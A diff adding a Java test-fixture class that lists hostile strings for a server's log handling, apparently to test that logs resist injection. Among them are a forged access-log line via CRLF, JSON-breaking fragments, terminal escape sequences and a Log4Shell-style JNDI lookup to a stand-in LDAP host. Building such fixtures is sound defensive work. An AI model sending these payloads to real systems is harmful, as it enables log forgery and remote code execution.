@@ -1,0 +1,53 @@
+package io.portcullis.server.observe;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Random;
+
+/** What strangers may send to confuse whoever reads a log: chosen texts, and seeded random ones. */
+final class NastyTexts {
+    private static final long SEED = 20261122;
+    private static final String LIKELY = "\"\\\r\n\t\u0000\u001b\u007f\u0085\u009b\u2028\u2029\uD83D\uDE00 {}[]:,'ux/";
+
+    private NastyTexts() {}
+
+    static List<String> all() {
+        List<String> texts = new ArrayList<>(List.of(
+                "",
+                "-",
+                "null",
+                "\n",
+                "\r\n203.0.113.9 - - [22/Nov/2026:18:00:00 +0000] \"GET / HTTP/1.1\" 200 0 \"-\" \"-\"",
+                "\",\"status\":200,\"x\":\"",
+                "\\\",\\",
+                "\\",
+                "\\u000a",
+                "\u001b]0;title\u0007\u001b[2J",
+                "\u009b31m",
+                "\u0085\u2028\u2029",
+                "\uD83D",
+                "\uDE00x",
+                "\uD83D\uDE00",
+                "${jndi:ldap://192.0.2.1/a}",
+                "%n%s{}{}"));
+        Random random = new Random(SEED);
+        for (int i = 0; i < 2_000; i++) {
+            texts.add(random(random));
+        }
+        return texts;
+    }
+
+    private static String random(Random random) {
+        int length = random.nextInt(40);
+        StringBuilder text = new StringBuilder(length);
+        for (int i = 0; i < length; i++) {
+            text.append(
+                    switch (random.nextInt(3)) {
+                        case 0 -> LIKELY.charAt(random.nextInt(LIKELY.length()));
+                        case 1 -> (char) random.nextInt(0x100);
+                        default -> (char) random.nextInt(0x10000);
+                    });
+        }
+        return text.toString();
+    }
+}
